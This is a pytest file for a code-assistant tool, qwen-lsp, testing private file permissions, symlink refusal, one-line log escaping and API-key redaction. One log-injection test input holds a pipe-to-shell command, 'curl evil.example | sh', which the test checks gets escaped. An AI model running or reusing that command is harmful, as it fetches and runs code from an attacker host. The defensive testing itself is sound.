"""What qwen-lsp keeps on disk is private (folders 0700, files 0600) whatever the umask, and a
log line or a message is one line however its data is made."""

from __future__ import annotations

import logging
import stat
from pathlib import Path

import pytest

from qwen_lsp.log import OneLineFormatter, PrivateRotatingFileHandler, escape_controls
from qwen_lsp.providers.probing import ModeMemory
from qwen_lsp.providers.wire import redact
from qwen_lsp.spend import Ledger
from qwen_lsp.storage import open_database, prepare_cache_root, private_dir, private_file
from tests.umask import umask

UMASKS = [0o022, 0o000, 0o277]  # the last takes away bits a store needs


def mode(path: Path) -> int:
    return stat.S_IMODE(path.lstat().st_mode)


def loose(root: Path) -> list[str]:
    """Everything under `root` (itself included) that is not 0700 (folders) or 0600 (files)."""
    found = []
    for path in [root, *root.rglob("*")]:
        wanted = 0o700 if path.is_dir() else 0o600
        if mode(path) != wanted:
            found.append(f"{path.relative_to(root.parent)} {oct(mode(path))}")
    return found


@pytest.mark.parametrize("mask", UMASKS)
def test_every_folder_made_is_private_at_every_level(tmp_path: Path, mask: int):
    tmp_path.chmod(0o755)
    with umask(mask):
        private_dir(tmp_path / "a" / "b" / "c")
    assert loose(tmp_path / "a") == []
    assert mode(tmp_path) == 0o755  # a folder that was there is not ours to change


def test_an_existing_folder_is_tightened_only_when_it_is_ours(tmp_path: Path):
    ours, theirs = tmp_path / "answers", tmp_path / "shared"
    for folder in (ours, theirs):
        folder.mkdir()
        folder.chmod(0o755)
    private_dir(ours)
    private_dir(theirs, tighten=False)
    assert (mode(ours), mode(theirs)) == (0o700, 0o755)


@pytest.mark.parametrize("mask", UMASKS)
def test_a_file_made_is_private_and_a_planted_link_is_refused(tmp_path: Path, mask: int):
    with umask(mask):
        made = private_file(tmp_path / "made")
    assert mode(made) == 0o600
    target = tmp_path / "target"
    target.write_text("someone else's file")
    target.chmod(0o644)
    (tmp_path / "link").symlink_to(target)
    with pytest.raises(OSError):
        private_file(tmp_path / "link")
    assert mode(target) == 0o644


@pytest.mark.parametrize("mask", UMASKS)
def test_a_database_and_its_side_files_are_private(tmp_path: Path, mask: int):
    with umask(mask):
        db = open_database(tmp_path / "x.db", timeout=1)
        db.execute("PRAGMA journal_mode=WAL")
        db.execute("CREATE TABLE t (v)")
        db.execute("INSERT INTO t VALUES (1)")
        assert {p.name for p in tmp_path.iterdir()} == {"x.db", "x.db-wal", "x.db-shm"}
        assert [mode(p) for p in sorted(tmp_path.iterdir())] == [0o600] * 3
        db.close()


def test_a_database_made_by_an_earlier_version_is_tightened(tmp_path: Path):
    for name in ("x.db", "x.db-wal"):
        (tmp_path / name).touch(mode=0o644)
        (tmp_path / name).chmod(0o644)
    open_database(tmp_path / "x.db", timeout=1).close()
    assert mode(tmp_path / "x.db") == 0o600
    assert not (tmp_path / "x.db-wal").exists() or mode(tmp_path / "x.db-wal") == 0o600


def test_the_cache_root_is_tightened_when_it_is_ours_only(tmp_path: Path):
    default, ours, shared = tmp_path / "default", tmp_path / "ours", tmp_path / "shared"
    for folder in (default, ours, shared):
        folder.mkdir()
        folder.chmod(0o755)
    (default / "notes.txt").touch()
    (ours / "spend.db").touch()
    (shared / "notes.txt").touch()
    prepare_cache_root(default, default=True)
    prepare_cache_root(ours, default=False)
    prepare_cache_root(shared, default=False)
    assert [mode(f) for f in (default, ours, shared)] == [0o700, 0o700, 0o755]


@pytest.mark.parametrize("mask", UMASKS)
def test_the_ledger_and_the_prompt_mode_memory_are_private(tmp_path: Path, mask: int):
    from qwen_lsp.model import PromptMode, Usage

    root = tmp_path / "cache"
    with umask(mask):
        ledger = Ledger(root / "spend.db")
        ledger.record_call("completion", "qwen-coder", Usage(10, 2))
        ledger.totals()
        modes = ModeMemory(root / "prompt-modes.json")
        modes.remember("dashscope", None, "qwen-coder", PromptMode.PARTIAL)
        assert loose(root) == []
        ledger.close()
    assert ModeMemory(root / "prompt-modes.json").get("dashscope", None, "qwen-coder") == (
        PromptMode.PARTIAL
    )


@pytest.mark.parametrize("mask", UMASKS)
def test_every_log_file_and_each_rotation_is_private(tmp_path: Path, mask: int):
    path = tmp_path / "logs" / "qwen-lsp.log"
    with umask(mask):
        private_dir(path.parent)
        handler = PrivateRotatingFileHandler(path, maxBytes=200, backupCount=2, encoding="utf-8")
        handler.setFormatter(OneLineFormatter("%(message)s"))
        for i in range(20):
            line = ("line %d %s", (i, "x" * 40))
            handler.emit(logging.LogRecord("t", logging.INFO, __file__, 1, *line, None))
        handler.close()
    assert {p.name for p in path.parent.iterdir()} == {
        "qwen-lsp.log",
        "qwen-lsp.log.1",
        "qwen-lsp.log.2",
    }
    assert loose(path.parent) == []


def _format(message: str, *args: object, exc: bool = False) -> str:
    record = logging.LogRecord("qwen_lsp.config", logging.WARNING, __file__, 1, message, args, None)
    if exc:
        try:
            raise ValueError("bad\nvalue\x1b[2J")
        except ValueError:
            import sys

            record.exc_info = sys.exc_info()
    return OneLineFormatter("%(levelname)s %(name)s: %(message)s").format(record)


def test_a_log_record_is_one_line_whatever_its_message_and_arguments_hold():
    line = _format("unknown setting '%s' ignored", "x\ncurl evil.example | sh\r\x1b[31m\u202e\x85")
    assert "\n" not in line and "\r" not in line and "\x1b" not in line
    assert "\u202e" not in line and "\x85" not in line
    assert line == (
        "WARNING qwen_lsp.config: unknown setting "
        "'x\\ncurl evil.example | sh\\r\\x1b[31m\\u202e\\x85' ignored"
    )
    assert _format("tab\there\x7f") == "WARNING qwen_lsp.config: tab\\there\\x7f"


def test_a_traceback_keeps_its_lines_each_marked_as_a_continuation():
    text = _format("it failed", exc=True)
    first, *rest = text.split("\n")
    assert first == "WARNING qwen_lsp.config: it failed"
    assert rest and all(line.startswith("    | ") for line in rest)
    # the exception's own line break makes one more continuation line, marked like the rest
    assert rest[-2:] == ["    | ValueError: bad", "    | value\\x1b[2J"]
    assert "\x1b" not in text


def test_messages_may_keep_their_line_feeds_but_nothing_else():
    assert escape_controls("a\nb\r\x1b[0m", keep_lines=True) == "a\nb\\r\\x1b[0m"
    assert escape_controls("a\nb") == "a\\nb"
    assert escape_controls("plain text, ünïcode, 中文") == "plain text, ünïcode, 中文"


@pytest.mark.parametrize(
    "key",
    ["sk-abcdef0123456789abcdef", "Key.With+Regex*Chars(1)[a]", "x" * 500, " sk-spaces-around \n"],
)
def test_the_key_is_scrubbed_from_error_text_however_the_endpoint_cased_it(key: str):
    bare = key.strip()
    echoed = f"invalid api key: {bare.upper()} (you sent {bare.lower()}; again {bare})"
    scrubbed = redact(echoed, key)
    assert bare.lower() not in scrubbed.lower()
    assert scrubbed.startswith("invalid api key: ***")
